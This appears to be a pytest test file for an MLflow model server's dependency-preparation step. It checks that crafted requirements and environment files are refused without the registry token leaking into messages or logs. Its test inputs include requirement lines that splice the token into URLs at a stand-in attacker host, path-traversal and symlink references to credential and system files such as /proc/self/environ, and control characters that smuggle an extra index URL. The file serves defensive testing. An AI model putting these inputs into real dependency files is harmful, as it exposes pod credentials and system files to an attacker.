"""A model's environment files, written by somebody who wants what the pod has and he may not read.

What the prepare step says ends in the resource's status, which many may read who may read no
Secret. So each file here would have put a secret there, or into a request to a server of the
attacker's.
"""

from __future__ import annotations

import logging
from pathlib import Path

import pytest

from mlflow_model_server.prepare import requirements
from mlflow_model_server.runtime.termination import StartupError

SECRET = "registry-token-4711"


@pytest.fixture(autouse=True)
def pod(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """The environment and the files of a pod that has credentials; the model's folder in it."""
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
    (tmp_path / "token").write_text(f"{SECRET}\n")
    (tmp_path / "model").mkdir()
    return tmp_path


def refusal(pod: Path, caplog: pytest.LogCaptureFixture, **files: str) -> str:
    """The message that refuses the files; fails if anything said of them has the secret in it."""
    model = pod / "model"
    for name, text in files.items():
        (model / name.replace("__", ".")).write_text(text)
    with caplog.at_level(logging.DEBUG), pytest.raises(StartupError) as failed:
        requirements.read(model, {})
    assert failed.value.reason == "DependencyInstallFailed"
    assert SECRET not in failed.value.message
    assert SECRET not in caplog.text
    return failed.value.message


@pytest.mark.parametrize(
    "line",
    [
        "${MLFLOW_TRACKING_TOKEN} !!",
        "acme @ https://evil.example/${MLFLOW_TRACKING_TOKEN}/acme-9.9-py3-none-any.whl",
        "--index-url https://evil.example/${MLFLOW_TRACKING_TOKEN}/simple",
        "--find-links=${MLFLOW_TRACKING_TOKEN}",
        "-r ${MLFLOW_TRACKING_TOKEN}",
        "-e ${MLFLOW_TRACKING_TOKEN}",
        "acme==1 --hash=sha256:${MLFLOW_TRACKING_TOKEN}",
    ],
)
def test_no_variable_is_expanded(pod: Path, caplog: pytest.LogCaptureFixture, line: str) -> None:
    message = refusal(pod, caplog, requirements__txt=f"numpy\n{line}\n")
    assert message.startswith("requirements.txt line 2 uses an environment variable")


def test_a_variable_that_is_not_set_is_not_left_for_uv_to_expand(pod: Path) -> None:
    (pod / "model" / "requirements.txt").write_text("acme @ https://x.example/${LATER}/a.whl\n")
    with pytest.raises(StartupError, match="line 1 uses a variable that is not set"):
        requirements.read(pod / "model", {}, variables=["LATER"])


@pytest.mark.parametrize("option", ["-r", "-c", "--requirement=", "--constraint "])
@pytest.mark.parametrize("place", ["{pod}/token", "../token", "sub/../../token", "link"])
def test_no_file_outside_the_model_is_read(
    pod: Path, caplog: pytest.LogCaptureFixture, option: str, place: str
) -> None:
    (pod / "model" / "link").symlink_to(pod / "token")
    line = f"{option}{place.format(pod=pod)}"
    message = refusal(pod, caplog, requirements__txt=f"{line}\n")
    assert "a file outside its own folder" in message


@pytest.mark.parametrize("place", ["/proc/self/environ", "/etc/passwd"])
def test_no_file_of_the_system_is_read(
    pod: Path, caplog: pytest.LogCaptureFixture, place: str
) -> None:
    message = refusal(pod, caplog, requirements__txt=f"-r {place}\n")
    assert message == "The model refers to a file outside its own folder: put it there"


def test_the_environment_file_itself_may_not_be_a_link_to_elsewhere(
    pod: Path, caplog: pytest.LogCaptureFixture
) -> None:
    (pod / "model" / "python_env.yaml").symlink_to(pod / "token")
    assert "outside its own folder" in refusal(pod, caplog)


def test_the_mlmodel_file_cannot_name_one_outside(pod: Path) -> None:
    mlmodel = {"flavors": {"python_function": {"env": {"virtualenv": "../token"}}}}
    with pytest.raises(StartupError, match="outside its own folder"):
        requirements.read(pod / "model", mlmodel)


def test_files_that_include_each_other_within_the_model_are_read(pod: Path) -> None:
    model = pod / "model"
    (model / "sub").mkdir()
    (model / "requirements.txt").write_text("a\n-r sub/more.txt\n")
    (model / "sub" / "more.txt").write_text("b\n-c ../bounds.txt\n")
    (model / "bounds.txt").write_text("a<2\n")
    needed = requirements.read(model, {})
    assert [line.text for line in needed.lines] == ["a", "b"]
    assert [line.text for line in needed.constraints] == ["a<2"]


@pytest.mark.parametrize("broken", [f"{SECRET} {SECRET} !!", f"-r {SECRET}.txt", f"./{SECRET}.whl"])
def test_no_line_is_repeated(pod: Path, caplog: pytest.LogCaptureFixture, broken: str) -> None:
    assert "requirements.txt line 1 " in refusal(pod, caplog, requirements__txt=broken)


def test_no_content_of_a_broken_yaml_file_is_repeated(
    pod: Path, caplog: pytest.LogCaptureFixture
) -> None:
    message = refusal(pod, caplog, python_env__yaml=f"dependencies: [{SECRET}, '\\q\n: {{")
    assert message.startswith("python_env.yaml is not YAML")


@pytest.mark.parametrize("control", ["\\n", "\\r", "\\0", "\\x1b", "\\u2028", "\\x85"])
def test_no_line_becomes_two(pod: Path, caplog: pytest.LogCaptureFixture, control: str) -> None:
    line = f"--only-binary acme{control}--extra-index-url http://evil.example/simple"
    message = refusal(pod, caplog, python_env__yaml=f'dependencies: [numpy, "{line}"]')
    assert message.startswith("python_env.yaml dependency 2 has a control character")
